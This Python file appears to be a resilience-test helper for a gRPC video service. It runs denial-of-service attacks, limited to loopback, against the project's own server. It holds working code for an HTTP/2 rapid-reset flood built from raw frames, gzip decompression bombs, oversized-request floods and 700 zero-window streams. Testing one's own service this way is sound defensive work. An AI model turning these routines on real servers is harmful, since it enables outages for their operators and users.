# Copyright 2026 The Longtake Authors
# SPDX-License-Identifier: Apache-2.0
"""Runs attacks in a separate process. They are bounded in time and count and use loopback only."""

from __future__ import annotations

import argparse
import asyncio
import select
import socket
import struct
import sys
import threading
import time
from typing import TYPE_CHECKING

import grpc
from longtake.v1.video_service_pb2 import WatchOperationRequest

if TYPE_CHECKING:
    from collections.abc import Callable

SERVICE = "/longtake.v1.VideoService"
MEBIBYTE = 1 << 20
CONNECTIONS = 4
LARGE_REQUESTS = 20
READERS = 700
_LOOPBACK = "127.0.0.1"

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS = 0, 1, 3, 4
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_CANCEL = struct.pack(">I", 8)
_NO_WINDOW = struct.pack(">HI", 4, 0)
_CALLS_PER_WRITE = 200
_BETWEEN_CONNECTIONS_SECONDS = 0.01


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(method: str) -> bytes:
    """Return the HPACK block of a gRPC call, as literals without indexing."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": f"{SERVICE}/{method}",
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    texts = (text.encode() for field in fields.items() for text in field)
    lengths_and_texts = [bytes((len(text),)) + text for text in texts]
    pairs = zip(lengths_and_texts[::2], lengths_and_texts[1::2], strict=True)
    return b"".join(b"\x00" + name + value for name, value in pairs)


class Connection:
    """An HTTP/2 connection that sends arbitrary frames and discards what it reads."""

    def __init__(self, address: str, settings: bytes = b"") -> None:
        host, _, port = address.rpartition(":")
        assert host == _LOOPBACK, "attacks are for loopback only"
        self._socket = socket.create_connection((host, int(port)), timeout=5)
        self._socket.sendall(_PREFACE + frame(_SETTINGS, 0, 0, settings))
        # Until the client acknowledges its settings, the server accepts few streams.
        self._socket.recv(65_536)
        self._socket.sendall(frame(_SETTINGS, _ACK, 0))
        self._socket.setblocking(False)

    def send(self, data: bytes, until: float) -> bool:
        """Send data while reading; return False if the server closed or the time is up."""
        rest = memoryview(data)
        while rest:
            left = until - time.monotonic()
            if left <= 0:
                return False
            readable, writable, _ = select.select([self._socket], [self._socket], [], left)
            try:
                if readable and not self._socket.recv(MEBIBYTE):
                    return False
                if writable:
                    rest = rest[self._socket.send(rest) :]
            except BlockingIOError:
                continue
            except OSError:
                return False
        return True

    def close(self) -> None:
        """Close the connection."""
        self._socket.close()


def _reset_rapidly(address: str, until: float, counts: list[int]) -> None:
    """Open calls and reset each immediately; reconnect when the server closes."""
    while time.monotonic() < until:
        try:
            reset_until_closed(address, until, counts)
        except OSError:
            time.sleep(_BETWEEN_CONNECTIONS_SECONDS)


def reset_until_closed(address: str, until: float, counts: list[int]) -> None:
    """Open calls on one connection and reset each immediately, until the server closes it.

    Args:
        address: The address of the server.
        until: When to stop, in monotonic time.
        counts: The numbers of calls and connections, which this function increases.

    Raises:
        OSError: The server cannot be reached.

    """
    connection = Connection(address)
    counts[1] += 1
    block = headers("GetOperation")
    first = 1
    try:
        while True:
            calls = b"".join(
                frame(_HEADERS, _END_HEADERS, stream, block)
                + frame(_RST_STREAM, 0, stream, _CANCEL)
                for stream in range(first, first + 2 * _CALLS_PER_WRITE, 2)
            )
            if not connection.send(calls, until):
                return
            counts[0] += _CALLS_PER_WRITE
            first += 2 * _CALLS_PER_WRITE
    finally:
        connection.close()


def rapid_reset(address: str, seconds: float, _operation: str) -> str:
    """Reset calls on four connections at once, and return the rate as text."""
    counts = [[0, 0] for _ in range(CONNECTIONS)]
    until = time.monotonic() + seconds
    threads = [
        threading.Thread(target=_reset_rapidly, args=(address, until, each)) for each in counts
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    resets, opened = (sum(column) for column in zip(*counts, strict=True))
    return f"{resets / seconds:.0f} resets a second on {opened} connections"


def gzip_bombs(address: str, seconds: float, _operation: str) -> str:
    """Send requests of 61 KB that expand to 60 MiB, all at once, and return the answers."""
    return asyncio.run(_requests(address, seconds, 60 * MEBIBYTE, grpc.Compression.Gzip))


def large_requests(address: str, seconds: float, _operation: str) -> str:
    """Send requests of 31 MiB, which the server accepts, all at once, and return the answers."""
    return asyncio.run(_requests(address, seconds, 31 * MEBIBYTE, grpc.Compression.NoCompression))


async def _requests(address: str, seconds: float, size: int, compression: grpc.Compression) -> str:
    options = [("grpc.max_send_message_length", -1)]
    async with grpc.aio.insecure_channel(
        address, options=options, compression=compression
    ) as channel:
        call: grpc.aio.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(
            f"{SERVICE}/GenerateVideos"
        )

        async def code() -> str:
            try:
                await call(bytes(size), timeout=seconds)
            except grpc.aio.AioRpcError as error:
                return str(error.code().name)
            return "OK"

        codes = await asyncio.gather(*(code() for _ in range(LARGE_REQUESTS)))
    return f"{len(codes)} requests, {', '.join(sorted(set(codes)))}"


def deaf_readers(address: str, seconds: float, operation: str) -> str:
    """Open 700 watches with a closed window, so that the server cannot send."""
    request = WatchOperationRequest(name=operation).SerializeToString()
    message = b"\0" + struct.pack(">I", len(request)) + request
    block = headers("WatchOperation")
    until = time.monotonic() + seconds
    connection = Connection(address, _NO_WINDOW)
    calls = b"".join(
        frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, _END_STREAM, stream, message)
        for stream in range(1, 1 + 2 * READERS, 2)
    )
    assert connection.send(calls, until)
    time.sleep(max(0.0, until - time.monotonic()))
    connection.close()
    return f"{READERS} watches"


ATTACKS: dict[str, Callable[[str, float, str], str]] = {
    "rapid-reset": rapid_reset,
    "gzip-bombs": gzip_bombs,
    "large-requests": large_requests,
    "deaf-readers": deaf_readers,
}


def main() -> None:
    """Run an attack and print what was sent."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("address", help="127.0.0.1:PORT")
    parser.add_argument("seconds", type=float)
    parser.add_argument("operation", help="name of an existing operation")
    given = parser.parse_args()
    attack = ATTACKS[given.attack]
    sys.stdout.write(f"{attack(given.address, given.seconds, given.operation)}\n")


if __name__ == "__main__":
    main()
